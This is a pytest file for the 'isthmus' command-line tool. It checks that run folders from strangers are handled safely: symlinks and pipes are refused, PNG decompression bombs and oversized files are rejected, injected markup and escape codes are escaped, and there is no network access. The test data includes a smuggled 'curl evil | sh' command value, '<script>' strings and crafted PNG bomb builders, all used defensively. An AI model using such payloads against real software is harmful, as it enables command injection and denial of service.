"""The folder of a run that a stranger made: no links, regular files, bounded sizes, no network, nothing written outside it."""

from __future__ import annotations

import json
import os
import shutil
import struct
import subprocess
import sys
import time
import zlib
from pathlib import Path

import numpy as np
import pytest
from cases import thorough_where
from hostile_names import raw
from PIL import Image, PngImagePlugin
from test_cli import run

from isthmus import data
from isthmus.errors import DataError
from isthmus.plots.figure_file import read_png

pytestmark = [pytest.mark.promise(23), pytest.mark.skipif(sys.platform == "win32", reason="links and pipes")]

QUICK = ("epochs=1", "architecture.hidden=4", "bottleneck.size=2")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run on a small table."""
    folder = tmp_path_factory.mktemp("stranger")
    np.save(folder / "x.npy", np.random.default_rng(0).normal(size=(60, 4)).astype(np.float32))
    done = run("train", *QUICK, "--data", "x.npy", "--out", "run", cwd=folder)
    assert done.returncode == 0, done.stderr
    return folder


@pytest.fixture
def theirs(made: Path, tmp_path: Path) -> Path:
    """A copy of it, with a folder of mine beside it."""
    shutil.copytree(made, tmp_path, dirs_exist_ok=True)
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "losses.png").write_bytes(b"my own")
    (tmp_path / "mine" / "report.html").write_bytes(b"my own")
    return tmp_path


VERBS = (
    ("evaluate", "run"),
    ("plot", "run", "losses"),
    ("robustness", "run", "kinds=gaussian_noise", "levels=0.3", "draws=1"),
)


@pytest.mark.parametrize("words", VERBS, ids=lambda words: words[0])
@pytest.mark.parametrize("what", ["figures", "figures/losses.png", "report.html"])
def test_nothing_is_written_through_a_link(theirs: Path, words: tuple[str, ...], what: str) -> None:
    place = theirs / "run" / what
    shutil.rmtree(place) if place.is_dir() else place.unlink()
    place.symlink_to(theirs / "mine" / place.name if place.suffix else theirs / "mine")
    before = {path.name: path.read_bytes() for path in (theirs / "mine").iterdir()}
    done = run(*words, cwd=theirs)
    assert done.returncode == 1
    assert "symbolic link" in done.stderr
    assert done.stderr.count("\n") == 1
    assert {path.name: path.read_bytes() for path in (theirs / "mine").iterdir()} == before


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def bomb(side: int) -> bytes:
    """A PNG file whose header promises a square of so many pixels a side."""
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)) + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize(
    "what",
    thorough_where(
        ["link", "pipe", "bomb", "text bomb", "no image", "large", "empty"], lambda what: what not in {"link", "bomb"}
    ),
)
def test_invalid_figure_files_are_left_out_and_named(theirs: Path, what: str) -> None:
    place, secret = theirs / "run" / "figures" / "tsne.png", theirs / "mine" / "secret.png"
    Image.new("L", (8, 8)).save(secret)
    if what == "link":
        place.symlink_to(secret)
    elif what == "pipe":
        os.mkfifo(place)
    else:
        text = chunk(b"zTXt", b"Description\0\0" + zlib.compress(bytes(50 << 20)))
        start = bomb(8)
        content = {"bomb": bomb(100_000), "no image": b"<script>", "large": bytes(20 << 20), "empty": b""}
        place.write_bytes(content.get(what, start[:33] + text + start[33:]))
    before = time.monotonic()
    done = run("evaluate", "run", cwd=theirs)
    page = (theirs / "run" / "report.html").read_text()
    if what in {"link", "pipe"}:  # which a figure of that kind would take the place of
        assert done.returncode == 1
        assert "tsne.png" in done.stderr
    else:
        assert done.returncode == 0, done.stderr
        assert "a figure is left out: " in done.stderr
        assert "tsne.png" in done.stderr
    assert "T-SNE map of the codes" not in page
    assert time.monotonic() - before < 60


def test_descriptions_in_figure_files_are_escaped(theirs: Path) -> None:
    about = PngImagePlugin.PngInfo()
    about.add_itxt("Description", "\x1b[2J<script>\u202e" * 1000)
    Image.new("L", (8, 8)).save(theirs / "run" / "figures" / "tsne.png", pnginfo=about)
    assert run("evaluate", "run", cwd=theirs).returncode == 0
    page = (theirs / "run" / "report.html").read_text()
    assert not raw(page)
    assert "<script>" not in page
    assert "T-SNE map of the codes" in page


def test_figure_files_are_read_up_to_a_size_limit(tmp_path: Path) -> None:
    path = tmp_path / "x.png"
    with path.open("wb") as file:
        file.write(bomb(8))
        file.truncate(1 << 40)
    with pytest.raises(DataError, match="too large for a figure"):
        read_png(path)


def rewrite(folder: Path, **changes: object) -> None:
    path = folder / "run" / "run.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | changes))


OFFLINE = """
import sys
sys.addaudithook(lambda event, _: event.startswith(("socket.", "urllib.")) and print(f"talked: {event}"))
from isthmus.cli import main
from isthmus.data import builtin
builtin.FASHION_MNIST_INSTALLED = ()
for words in ("evaluate run", "impute run", "compare run run", "data"):
    sys.argv = ["isthmus", *words.split()]
    try:
        main()
    except SystemExit as end:
        print("ended:", end.code, flush=True)
"""


@pytest.mark.thorough
def test_no_file_causes_network_access(theirs: Path) -> None:
    rewrite(theirs, data="fashion-mnist")
    away = {name: str(theirs / "nowhere") for name in ("HOME", "ISTHMUS_DATA", "XDG_CACHE_HOME", "LOCALAPPDATA")}
    done = subprocess.run(
        [sys.executable, "-c", OFFLINE], cwd=theirs, env=os.environ | away, capture_output=True, text=True
    )
    assert "talked" not in done.stdout + done.stderr
    assert done.stdout.count("ended: 1") == 3
    assert done.stdout.endswith("ended: 0\n")
    assert " ".join((done.stdout + done.stderr).split()).count("; download it with") == 4


def test_python_downloads_only_if_allowed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("isthmus.data.builtin.FASHION_MNIST_INSTALLED", ())
    for name in ("ISTHMUS_DATA", "XDG_CACHE_HOME", "LOCALAPPDATA", "HOME"):
        monkeypatch.setenv(name, str(tmp_path))
    with pytest.raises(DataError, match="download it with"):
        data.load("fashion_mnist", download=False)


def test_a_run_cannot_request_another_image_size_than_its_model(theirs: Path) -> None:
    (theirs / "photos").mkdir()
    for place in range(3):
        Image.new("L", (8, 8), place).save(theirs / "photos" / f"{place}.png")
    rewrite(theirs, data="photos", resize=[20_000, 20_000])
    for words in (["evaluate", "run"], ["encode", "run", "--data", "photos"], ["plot", "run", "latent"]):
        done = run(*words, cwd=theirs)
        assert done.returncode == 1
        assert "20000x20000" in done.stderr
        assert done.stderr.count("\n") == 1


@pytest.mark.parametrize(
    "content",
    thorough_where(
        [b"[" * 900_000, b"{}" + b" " * (3 << 20), b"\xff\xfe", b"null", b'{"data": 7}'],
        lambda content: len(content) < 5,
    ),
)
def test_an_unreadable_run_record_prints_one_sentence(theirs: Path, content: bytes) -> None:
    (theirs / "run" / "run.json").write_bytes(content)
    done = run("evaluate", "run", cwd=theirs)
    assert done.returncode == 1
    assert done.stderr.count("\n") == 1
    assert "--data" in done.stderr
    assert run("encode", "run", "--data", "x.npy", cwd=theirs).returncode == 0


def test_text_of_a_run_record_is_escaped_and_shortened(theirs: Path) -> None:
    rewrite(theirs, recipe="\x1b[2J\n<b>" * 1000, command="isthmus train; curl evil | sh \x1b]0;x\x07")
    done = run("evaluate", "run", cwd=theirs)
    assert done.returncode == 0
    page = (theirs / "run" / "report.html").read_text()
    assert not raw(done.stdout + done.stderr + page)
    assert "<b>" not in page
    assert "isthmus &#x27;train;&#x27; curl evil &#x27;|&#x27; sh $&#x27;\\033]0;x" in page
    rewrite(theirs, data="\x1b[2Jno such file.csv" + "x" * 100_000)
    done = run("evaluate", "run", cwd=theirs)
    assert done.returncode == 1
    assert not raw(done.stdout + done.stderr)
    assert len(done.stderr) < 10_000


def test_links_in_a_sweep_folder_are_refused(theirs: Path) -> None:
    words = ["sweep", "bottleneck.size=1,2", "epochs=1", "architecture.hidden=4", "--data", "x.npy", "--out", "sizes"]
    (theirs / "sizes").mkdir()
    (theirs / "sizes" / "size-1").symlink_to(theirs / "mine")
    done = run(*words, cwd=theirs)
    assert done.returncode == 1
    assert "symbolic link" in done.stderr
    assert {path.name for path in (theirs / "mine").iterdir()} == {"losses.png", "report.html"}
